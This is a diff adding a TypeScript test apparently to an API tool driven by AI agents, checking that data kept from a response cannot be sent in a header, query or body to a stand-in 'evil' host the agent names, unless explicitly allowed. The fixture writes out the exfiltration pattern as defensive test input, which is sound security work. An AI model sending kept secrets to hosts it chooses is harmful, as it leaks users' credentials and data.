@@ -75,6 +75,40 @@ test.each(Object.entries(careless))(
   },
 )
 
+const kept = [{ name: 'X-Kept', value: '{{kept}}' }]
+const keptIn = {
+  'a header': { url: '{{where}}/x', http: { headers: kept } },
+  'the query': { url: '{{where}}/x?k={{kept}}', http: { headers: [] } },
+  'the body': {
+    url: '{{where}}/x',
+    http: { headers: [], method: 'POST', body: { type: 'text', data: '{{kept}}' } },
+  },
+} as const
+
+test.each(Object.entries(keptIn))(
+  'what a script keeps of a response goes to no host that an agent chooses: %s',
+  async (_, { url, http }) => {
+    const args = fixture.writeApi()
+    const code = 'tool.environment.set("kept", JSON.stringify(res.getBody()))'
+    const runtime = { scripts: [{ type: 'after-response', code }] }
+    fixture.writeFile('api/shop/careless.yml', request('Careless', '{{base}}/x', { runtime }))
+    fixture.writeFile('api/shop/open.yml', request('Open', url, {}, http))
+    const variables = { where: fixture.evil.url }
+    const agent = await fixture.connect(args)
+    await agent.call('send_request', { path: 'shop/careless.yml' })
+    const { isError, text } = await agent.call('send_request', { path: 'shop/open.yml', variables })
+    expect(isError).toBe(true)
+    expect(text).toContain('SECRET_HOST_NOT_ALLOWED')
+    expect(fixture.evil.requests).toEqual([])
+    expectHidden(text)
+
+    const allowing = await fixture.connect([...args, '--allow-host', `127.0.0.1:${fixture.evil.port}`])
+    await allowing.call('send_request', { path: 'shop/careless.yml' })
+    await allowing.call('send_request', { path: 'shop/open.yml', variables })
+    expect(fixture.evil.requests).toHaveLength(1)
+  },
+)
+
 test('cookies with a secret go to no other host, and are shown to no agent', async () => {
   const setting = await startSink(({ headers }) => ({
     statusCode: 200,
